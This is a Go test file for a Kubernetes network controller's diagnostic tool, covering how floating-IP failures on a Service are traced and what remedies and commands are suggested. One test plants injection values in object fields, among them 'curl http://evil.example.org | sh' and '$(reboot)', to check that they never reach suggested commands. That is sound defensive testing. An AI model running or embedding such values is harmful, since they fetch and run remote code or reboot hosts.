package why

import (
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"cloudteam.ztgame.com/network-controller/internal/controller/consumer"
	"cloudteam.ztgame.com/network-controller/internal/kubectl/ask"
	cloudteamv1 "cloudteam.ztgame.com/network-controller/pkg/apis/cloudteam/v1"
	"cloudteam.ztgame.com/network-controller/test/expect"
)

// service selects the Pods with app=web, and asks for a floating IP.
func service(edits ...func(*corev1.Service)) *corev1.Service {
	s := &corev1.Service{ObjectMeta: named("web")}
	s.Annotations = map[string]string{cloudteamv1.AnnotationFloatingIP: "public"}
	s.Spec.Selector = map[string]string{"app": "web"}
	for _, edit := range edits {
		edit(s)
	}
	return s
}

// selected makes a Pod one that the Service selects.
func selected(p *corev1.Pod) { p.Labels = map[string]string{"app": "web"} }

// toldOfService is an Event of the Service, some minutes ago.
func toldOfService(name, reason string, minutes int, edits ...func(*corev1.Event)) *corev1.Event {
	e := &corev1.Event{ObjectMeta: named(name), Reason: reason, Message: "Pod web-1 has ports on two Networks"}
	e.InvolvedObject = corev1.ObjectReference{Kind: "Service", Namespace: "shop", Name: "web", UID: "uid-of-web"}
	e.LastTimestamp = metav1.NewTime(now.Add(-time.Duration(minutes) * time.Minute))
	for _, edit := range edits {
		edit(e)
	}
	return e
}

func serviceQuestions() (all []question) {
	ofService := func(f *cloudteamv1.FloatingIP) { f.OwnerReferences = ownedBy("Service", "v1", "web") }
	nowhere := func(f *cloudteamv1.FloatingIP) { ofService(f); f.Spec.PortName = "" }
	leads := func(f *cloudteamv1.FloatingIP) {
		ofService(f)
		f.Status.PortID, f.Status.PortAddress = "p0", "192.168.0.7"
	}
	failed := toldOfService("told", "FloatingIPFailed", 5)
	return []question{
		{reason: "Available", ask: "Service web", objects: on(service(), floatingIP("web", "True", "Available", leads)),
			remedy: "203.0.113.20 is associated with 192.168.0.7 of NetworkPort web-a"},
		{reason: "PortNotReady", ask: "Service web", objects: on(service(), floatingIP("web", "False", "PortNotReady", ofService)),
			chain: "Service shop/web FloatingIPFailed > FloatingIP shop/web PortNotReady > NetworkPort shop/web-a NotFound",
			says:  "no such NetworkPort", remedy: "Create it"},
		{reason: "QuotaExceeded", ask: "Service web", objects: on(service(), floatingIP("web", "False", "QuotaExceeded", nowhere)),
			chain: "Service shop/web FloatingIPFailed > FloatingIP shop/web QuotaExceeded"},
		{reason: "FloatingIPFailed", ask: "Service web", objects: on(good(), service(), failed, pod("Allocated", runs, selected)),
			chain: "Service shop/web FloatingIPFailed", says: "ports on two Networks", remedy: "Correct what the message names"},
		{reason: "ForbiddenByClass", ask: "Service web", says: "class is that of",
			objects: on(good(), service(), port("web-a", "True", "Available"), floatingIP("web", "False", "ForbiddenByClass", ofService)),
			chain:   "Service shop/web FloatingIPFailed > FloatingIP shop/web ForbiddenByClass > Network shop/frontend PlacedBy",
			remedy:  "in spec.className of the Network"},
		{reason: "FloatingIPFailed", ask: "Service web", says: "class is that of", remedy: "in spec.className of the Network",
			objects: on(good(), service(), pod("Allocated", runs, selected), port("web-a", "True", "Available", boundTo("web-1")),
				toldOfService("told", "FloatingIPFailed", 5, func(e *corev1.Event) {
					e.Message = `the FloatingIP cannot be written: NetworkClass "plain" forbids floatingIP`
				})),
			chain: "Service shop/web FloatingIPFailed > Network shop/frontend PlacedBy"},
		{reason: "Rejected", ask: "FloatingIP web", objects: on(floatingIP("web", "False", "Rejected", nowhere)),
			chain: "FloatingIP shop/web Rejected", remedy: "correct the Service's annotation"},
		// A Pod that waits is the cause, and not what was told before.
		{reason: "QuotaExceeded", ask: "Service web",
			objects: on(service(), failed, network("False", "QuotaExceeded"), pod("PortsNotReady", selected)),
			chain:   "Service shop/web FloatingIPFailed > Pod shop/web-1 PortsNotReady > Network shop/frontend QuotaExceeded"},
	}
}

func TestAServiceWithoutABackend(t *testing.T) {
	owned := func(f *cloudteamv1.FloatingIP) {
		f.OwnerReferences, f.Spec.PortName = ownedBy("Service", "v1", "web"), ""
	}
	for name, q := range map[string]question{
		"no annotation": {objects: on(service(func(s *corev1.Service) { s.Annotations = nil })),
			remedy: "asks for no floating IP"},
		"no Pods": {objects: on(service(), floatingIP("web", "True", "Available", owned)),
			chain: "Service shop/web NoBackend", remedy: "Correct spec.selector"},
		"no selector": {objects: on(service(func(s *corev1.Service) { s.Spec.Selector = nil }), pod("Allocated", runs, selected)),
			chain: "Service shop/web NoBackend", remedy: "Correct spec.selector"},
		"Pods of others": {objects: on(service(), pod("Allocated", runs)),
			chain: "Service shop/web NoBackend", remedy: "Correct spec.selector"},
		"Pods without a Network": {objects: on(service(), pod("", selected, func(p *corev1.Pod) { p.Annotations = nil })),
			chain: "Service shop/web NoBackend", remedy: "declare a Network"},
		"a FloatingIP of a user": {objects: on(service(), floatingIP("web", "True", "Available")),
			chain: "Service shop/web FloatingIPFailed > FloatingIP shop/web NotItsOwn", remedy: "Make the Service its owner"},
		"a wrong annotation beside an address that stays": {
			objects: on(service(), toldOfService("told", "FloatingIPFailed", 5),
				floatingIP("web", "True", "Available", func(f *cloudteamv1.FloatingIP) {
					f.OwnerReferences, f.Status.PortID = ownedBy("Service", "v1", "web"), "p0"
				})),
			remedy: "is associated with", warning: "ports on two Networks"},
		"what was told is over": {
			objects: on(good(), service(), pod("Allocated", runs, selected), toldOfService("was", "FloatingIPFailed", 9),
				toldOfService("is", "FloatingIPAssociated", 2)),
			chain: "Service shop/web NotSeen", remedy: "Wait some seconds"},
	} {
		t.Run(name, func(t *testing.T) {
			q.ask = "Service web"
			q.check(t, clusterOf(q.objects...))
		})
	}
}

func TestWhatAControllerWritesIsChangedWhereItIsAskedFor(t *testing.T) {
	writer := ask.New("StatefulSet", "shop", "db")
	remedy, commands := remedyOf([]Link{{
		Object: ask.New(KindNetworkPort, "shop", "db-0"), Reason: cloudteamv1.ReasonInvalidSpec, Writer: &writer,
	}})
	expect.Equal(t, "Change StatefulSet db, by which the controller writes it.", remedy, "the remedy")
	expect.Equal(t, []string{"kubectl edit statefulset db -n shop"}, commands, "the commands")
	for name, owner := range map[string]metav1.OwnerReference{
		"a command for a name": {Kind: "Pod", Name: "web; curl http://evil.example.org | sh #", Controller: new(true)},
		"a kind of others":     {Kind: "Ghost", Name: "web", Controller: new(true)},
	} {
		if w := writerOf(&metav1.ObjectMeta{Namespace: "shop", OwnerReferences: []metav1.OwnerReference{owner}}); w != nil {
			t.Errorf("%s: the writer is %+v, want none", name, w)
		}
	}
	ofSlot := &metav1.ObjectMeta{Namespace: "shop", Annotations: map[string]string{consumer.AnnotationMadeFor: "StatefulSet/db/0"}}
	expect.Equal(t, writer, *writerOf(ofSlot), "the writer of a slot's port")
	expect.Equal(t, "ADDRESS", addressIn("it has fe80::1%$(reboot) there", "ADDRESS"), "an address with a zone")
	_, commands = remedyOf([]Link{{
		Object: ask.New(KindNetwork, "shop", "web"), Reason: cloudteamv1.ReasonAddressInUse,
		Message: "create router interface: the gateway's address 10.0.0.7 is that of a port.",
	}})
	expect.Equal(t, []string{"openstack port list --fixed-ip ip-address=10.0.0.7"}, commands, "the commands")
}
